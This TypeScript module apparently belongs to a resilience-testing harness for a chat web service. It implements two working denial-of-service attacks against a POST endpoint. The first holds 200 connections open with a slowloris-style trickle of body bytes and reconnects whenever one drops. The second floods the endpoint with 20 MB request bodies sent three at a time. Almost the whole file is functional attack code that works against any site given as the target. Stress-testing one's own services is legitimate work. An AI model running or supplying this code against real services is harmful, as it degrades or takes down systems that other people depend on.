import { connect, type Socket } from 'node:net'

import { attacker, type Answers } from '../attack-vectors'
import { send } from '../send'
import { type Target } from '../target'

const slowSenders = 200
const head = [
  'POST /api/chat/generic_conversations/ HTTP/1.1',
  'Host: site',
  'Content-Type: application/json',
  'Content-Length: 100000',
].join('\r\n')

/** Sends as slowly as it can; whoever is sent away comes back. */
export async function trickleBodies({ site }: Target, signal: AbortSignal): Promise<Answers> {
  const answers: Answers = {}
  const open = new Set<Socket>()
  const { hostname, port } = new URL(site)
  const begin = () => {
    if (signal.aborted) return
    const socket = connect({ host: hostname, port: Number(port), localAddress: attacker })
    open.add(socket)
    socket.write(`${head}\r\n\r\n{`)
    socket.once('data', (data) => count(answers, String(data).slice(9, 12)))
    socket.on('error', () => undefined)
    socket.once('close', () => {
      open.delete(socket)
      setTimeout(begin, 200)
    })
  }
  for (let sender = 0; sender < slowSenders; sender += 1) begin()
  const timer = setInterval(() => open.forEach((socket) => socket.write(' ')), 1000)
  await untilAborted(signal)
  clearInterval(timer)
  answers['still open'] = open.size
  for (const socket of open) socket.destroy()
  return answers
}

const large = Buffer.alloc(20 * 1024 * 1024, 'x')

/** Three at a time. */
export async function sendLargeBodies(target: Target, signal: AbortSignal): Promise<Answers> {
  const headers = { 'content-type': 'application/json', 'api-key': target.apiKey }
  const path = '/api/chat/generic_conversations/'
  return repeat(signal, 3, () =>
    send({
      origin: target.site,
      path,
      method: 'POST',
      headers,
      body: large,
      from: attacker,
      signal,
    }),
  )
}

/** So many at a time until the end; counts the statuses of what was answered. */
export async function repeat(
  signal: AbortSignal,
  atOnce: number,
  act: () => Promise<{ status: number }>,
): Promise<Answers> {
  const answers: Answers = {}
  const sendUntilAborted = async () => {
    while (!signal.aborted) {
      const { status } = await act()
      if (!signal.aborted) count(answers, String(status || 'no answer'))
      // Without a pause a door that refuses at once would only measure how fast this machine asks.
      await new Promise((resolve) => setTimeout(resolve, 10))
    }
  }
  await Promise.all(Array.from({ length: atOnce }, sendUntilAborted))
  return answers
}

export function count(answers: Answers, name: string) {
  answers[name] = (answers[name] ?? 0) + 1
}

export const untilAborted = (signal: AbortSignal) =>
  new Promise<void>((resolve) =>
    signal.aborted ? resolve() : signal.addEventListener('abort', () => resolve(), { once: true }),
  )
